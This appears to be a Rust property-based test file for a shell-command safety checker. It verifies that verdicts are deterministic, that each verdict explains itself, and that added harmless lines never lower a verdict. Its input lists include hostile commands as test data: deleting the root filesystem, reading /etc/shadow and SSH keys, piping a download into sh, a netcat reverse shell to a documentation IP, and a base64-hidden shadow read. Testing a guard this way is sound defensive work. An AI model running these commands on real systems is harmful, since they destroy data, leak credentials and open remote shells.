//! Properties that hold for every input: an answer always comes, and more text never means less care.

use aegish_guard::{Action, Context, Decision, Request, Role, check};
use aegish_test_support::cases;
use proptest::prelude::*;

fn decide(text: &str) -> Decision {
    check(&Request {
        text: text.as_bytes(),
        context: &Context::bare(),
        role: Role::Default,
        user_rules: &[],
    })
}

/// Pieces of commands: dangerous and harmless, complete and broken.
const TOKENS: &[&str] = &[
    "ls",
    "cat",
    "echo",
    "rm -rf",
    "/",
    "/etc/shadow",
    "~/.ssh/id_rsa",
    "sh",
    "bash -c",
    "eval",
    "sudo",
    "env",
    "xargs",
    "find . -exec",
    "{}",
    "\\;",
    "|",
    "||",
    "&&",
    ";",
    "&",
    "\n",
    "(",
    ")",
    "{",
    "}",
    "$(",
    "`",
    "'",
    "\"",
    "$'\\x41'",
    "$x",
    "${x:-y}",
    "${x//a/b}",
    "${!x}",
    "$((1+2))",
    "x=1",
    "x=(a b)",
    "<<E",
    "E",
    "<<<",
    ">",
    ">>",
    "2>&1",
    "<(",
    "if",
    "then",
    "fi",
    "for i in a b",
    "do",
    "done",
    "while",
    "case",
    "esac",
    "in",
    "function f",
    "f()",
    "[[",
    "]]",
    "*",
    "?",
    "[a-z]",
    "{a,b}",
    "{1..3}",
    "#c",
    "\\",
    " ",
    "base64 -d",
    "python3 -c",
    "import os",
    "awk",
    "'{print $1}'",
    "curl https://files.example.net/x",
    "nc",
    "198.51.100.7",
    "4444",
    "é",
    "\u{202e}",
    "\t",
    "coproc",
    "time",
    "!",
    "alias l=ls",
    "trap",
    "exec 3<>",
    "/dev/tcp/198.51.100.7/80",
    "printf",
    "%s",
    "read x",
    "source",
    "export",
    "unset x",
    "set --",
    "shift",
];

fn text() -> impl Strategy<Value = String> {
    let token = prop::sample::select(TOKENS);
    prop::collection::vec((token, prop::bool::weighted(0.8)), 0..40).prop_map(|tokens| {
        let mut text = String::new();
        for (token, blank) in tokens {
            text.push_str(token);
            if blank {
                text.push(' ');
            }
        }
        text
    })
}

/// Complete commands of every kind; none changes the meaning of a later one.
const COMMANDS: &[&str] = &[
    "ls",
    "cat notes.txt",
    "cat /etc/shadow",
    "rm -rf build",
    "rm -rf /",
    "echo hi > out.txt",
    "bash",
    "curl -s https://files.example.net/x | sh",
    "curl -sO https://files.example.net/x",
    "$UNKNOWN -x",
    "for f in a b; do echo $f; done",
    "if true; then ps aux; fi",
    "(cd /tmp && ls)",
    "{ date; uname; }",
    "find . -name '*.o' -exec rm {} \\;",
    "python3 -c 'print(1)'",
    "python3 -c 'import os; os.system(\"sh\")'",
    "eval \"$CODE\"",
    "case x in x) echo y;; esac",
    "nc -e /bin/sh 198.51.100.7 4444",
    "sudo systemctl stop x",
    "while read -r l; do echo \"$l\"; done < list",
    "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh",
    "git status",
];

/// Some of them, joined.
fn commands() -> impl Strategy<Value = String> {
    let command = prop::sample::select(COMMANDS);
    let joint = prop::sample::select(&["; ", " && ", " || ", "\n", " & "][..]);
    prop::collection::vec((command, joint), 1..5).prop_map(|parts| {
        let last = parts.len() - 1;
        parts
            .iter()
            .enumerate()
            .map(|(at, (command, joint))| {
                format!("{command}{}", if at == last { "" } else { joint })
            })
            .collect()
    })
}

/// Complete harmless commands that change nothing for the commands around them.
const HARMLESS: &[&str] =
    &["true", "ls -la", "echo done", "git status", "(cd src && make)", "# done"];

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn every_text_gets_an_answer_that_explains_itself(text in text()) {
        let decision = decide(&text);
        prop_assert!(!decision.reason().is_empty());
        prop_assert!((0.0..=1.0).contains(&decision.confidence()));
        prop_assert!(!(decision.is_open() && decision.action() == Action::Allow));
    }

    #[test]
    fn any_bytes_get_an_answer(bytes in prop::collection::vec(any::<u8>(), 0..200)) {
        let context = Context::bare();
        let decision = check(&Request { text: &bytes, context: &context, role: Role::Default, user_rules: &[]});
        prop_assert!(!decision.reason().is_empty());
    }

    #[test]
    fn the_same_text_gets_the_same_answer(text in text()) {
        let (once, again) = (decide(&text), decide(&text));
        prop_assert_eq!(once.action(), again.action());
        prop_assert_eq!(once.reason(), again.reason());
    }

    #[test]
    fn a_harmless_line_before_or_after_never_lowers_the_verdict(
        text in commands(),
        part in prop::sample::select(HARMLESS),
    ) {
        let alone = decide(&text).action();
        prop_assert!(decide(&format!("{part}\n{text}")).action() >= alone, "before: {text:?}");
        prop_assert!(decide(&format!("{text}\n{part}")).action() >= alone, "after: {text:?}");
    }

    #[test]
    fn joined_commands_are_as_bad_as_the_worst_of_them(text in commands(), more in commands()) {
        let worst = decide(&text).action().max(decide(&more).action());
        prop_assert!(decide(&format!("{text}\n{more}")).action() >= worst, "{text:?} then {more:?}");
    }

    #[test]
    fn the_restricted_role_is_never_milder(text in text()) {
        let context = Context::bare();
        let as_role = |role| check(&Request { text: text.as_bytes(), context: &context, role, user_rules: &[]}).action();
        prop_assert!(as_role(Role::Restricted) >= as_role(Role::Default));
    }
}

#[test]
fn a_harmless_part_never_lowers_a_verdict() {
    let cases = cases::all().expect("the cases can be read");
    for case in &cases {
        let alone = case.decide();
        let readable =
            alone.findings().iter().all(|finding| finding.rule.name != "unparsable-command");
        let mut texts = vec![format!("true\n{}", case.command)];
        if readable {
            texts.push(format!("{}\ntrue", case.command));
        }
        for text in texts {
            let longer = cases::Case { command: text, ..case.clone() }.decide();
            assert!(
                longer.action() >= alone.action(),
                "{}: {} {} became {} {}",
                case.place,
                alone.action(),
                alone.rule().id,
                longer.action(),
                longer.rule().id
            );
        }
    }
}
